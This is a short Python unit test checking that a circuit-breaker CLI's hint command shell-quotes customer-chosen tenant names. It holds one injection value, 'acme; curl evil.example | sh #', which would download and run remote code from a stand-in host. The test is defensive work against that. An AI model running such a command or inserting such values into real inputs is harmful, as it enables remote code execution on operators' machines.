"""What the command line says of breakers."""

from __future__ import annotations

import shlex

from fairlead.cli.breakers import problem_of


def test_the_command_in_a_hint_quotes_the_tenant() -> None:
    """Customers choose their names, and operators copy the command into a shell."""
    tenant = "acme; curl evil.example | sh #"
    told = problem_of(
        {
            "tenant": tenant, "provider": "stripe", "bucket": "default", "host": "api.stripe.com",
            "mode": "open", "last_failure_s_ago": 1.0, "lanes_held": 0,
        }
    )  # fmt: skip
    command = told.partition("(hint: `")[2].partition("`)")[0]
    assert shlex.split(command) == ["fairlead", "gate", "status", "-t", tenant, "-p", "stripe"]
